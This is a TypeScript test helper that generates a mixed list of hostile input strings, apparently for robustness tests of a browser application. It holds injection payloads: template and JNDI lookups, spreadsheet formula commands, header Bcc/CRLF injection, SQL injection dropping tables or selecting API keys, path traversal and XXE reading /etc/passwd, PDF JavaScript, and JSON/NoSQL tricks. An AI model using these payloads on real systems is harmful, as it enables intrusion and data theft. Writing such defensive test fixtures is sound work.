// Texts that try to be something else wherever they are shown: markup and script, a template, a cell
// that counts, a line of a header, a path, SQL, XML, a part of a PDF, and letters that hide, turn round
// or fill. Each kind is there as often as any other, each text once. The same count is the same texts.
import { hostileTexts } from '#test/browser/hostile-texts.ts';

type Kind = { readonly name: string; readonly texts: readonly string[] };

const KINDS: readonly Kind[] = [
  {
    name: 'template',
    texts: [
      '{{7*7}}',
      '${7*7}',
      '<%= 7*7 %>',
      '#{7*7}',
      '{{constructor.constructor("alert(1)")()}}',
      '${jndi:ldap://elsewhere.example/a}',
      '{% include "/etc/passwd" %}',
      '%s%s%n%x',
      '`${process.exit(1)}`',
      "$& $1 $` $'",
    ],
  },
  {
    name: 'cell',
    texts: [
      '=1+1',
      '+1+cmd|calc',
      '-2+3',
      '@SUM(1+1)*cmd',
      '=HYPERLINK("https://elsewhere.example/","x")',
      '\t=1+1',
      '＝1+1',
      '＠SUM(1)',
      'a;=1+1',
      '"=1+1',
      '","=1+1","',
      "=cmd|' /C calc'!A0",
    ],
  },
  {
    name: 'header',
    texts: [
      'x\r\nBcc: evil@elsewhere.example',
      'x\nSet-Cookie: session=1',
      'x\rX-Other: 1',
      'x\r\n\r\n<h1>other body</h1>',
      'x\u0085Bcc: evil@elsewhere.example',
      'x\u2028Bcc: a@elsewhere.example\u2029',
      '=?utf-8?B?QmNjOiBldmls?=',
      'a"; filename="evil.exe',
      '%0d%0aLocation:%20//elsewhere.example',
    ],
  },
  {
    name: 'direction',
    texts: ['\u202egnp.exe', '\u2066x\u2069', '\u200f\u200e', 'a\u061cb', '\u202d\u202e\u202c'],
  },
  {
    name: 'hidden',
    texts: [
      '\u200b',
      'a\u200bdmin',
      '\ufeffx',
      '\u00ad',
      '\u2060',
      'x\u0007\u001b[31mred',
      '\ufff9a\ufffab\ufffb',
      '\u{e0041}\u{e0042}',
      'a\u0300\u0301\u0302\u0303\u0304\u0305'.repeat(5),
    ],
  },
  { name: 'no text', texts: ['\u0000', 'a\u0000b', '\ud800', 'x\udfff', '\ud800<script>'] },
  {
    name: 'filling',
    texts: ['W'.repeat(199), '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(20), ' '.repeat(150)],
  },
  {
    name: 'SQL',
    texts: [
      "'; drop table checkout; --",
      "' or '1'='1",
      '") union select secret from api_key --',
      "\\'; select pg_sleep(9); --",
      '$$; commit; $$',
      "%' or 1=1 --",
    ],
  },
  {
    name: 'path',
    texts: [
      '../../../../etc/passwd',
      '..\\..\\windows\\win.ini',
      'file:///etc/passwd',
      '/dev/null',
      'con.txt',
      '%2e%2e%2f%2e%2e%2f',
      '//elsewhere.example/x',
      'javascript:alert(1)',
      '__proto__',
    ],
  },
  {
    name: 'XML',
    texts: [
      ']]></ram:Name><evil/>',
      '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
      '&lt;&amp;&#0;&#x1F;',
      '<?xml version="1.0"?>',
      '\ufffe\uffff',
      '<![CDATA[x]]>',
    ],
  },
  {
    name: 'PDF',
    texts: [
      ') Tj ET /JavaScript (app.alert(1)) <</S /URI /URI (http://elsewhere.example)>>',
      'endstream endobj\n1 0 obj <</OpenAction 2 0 R>>',
      '\\) \\( ((( )))',
      '%%EOF',
      'BT /F1 24 Tf (x) Tj ET',
    ],
  },
  {
    name: 'JSON',
    texts: ['"}],"admin":true,"x":[{"', '\\u0022,\\u0022a', '{"$ne":null}', 'null', '1e999', '[]'],
  },
];

/** As often as all others together: what runs in a browser. */
export function hostileStrings(count: number): readonly string[] {
  const markup = hostileTexts(Math.ceil(count / 2));
  const others = new Set<string>();
  for (let round = 0; others.size < count - markup.length; round += 1) {
    for (const [at, { texts }] of KINDS.entries()) {
      const text = texts[round % texts.length] ?? '';
      const beside = texts[(round + at + 1) % texts.length] ?? '';
      const turn = Math.floor(round / texts.length);
      // Alone, beside another of its kind, and beside a word, before and after.
      const shapes = [text, text + beside, `${text} ${turn}`, `${turn}${text}`];
      others.add(shapes[turn % shapes.length] ?? text);
      if (others.size === count - markup.length) break;
    }
  }
  return markup.flatMap((text, index) => [text, ...[...others].slice(index, index + 1)]);
}
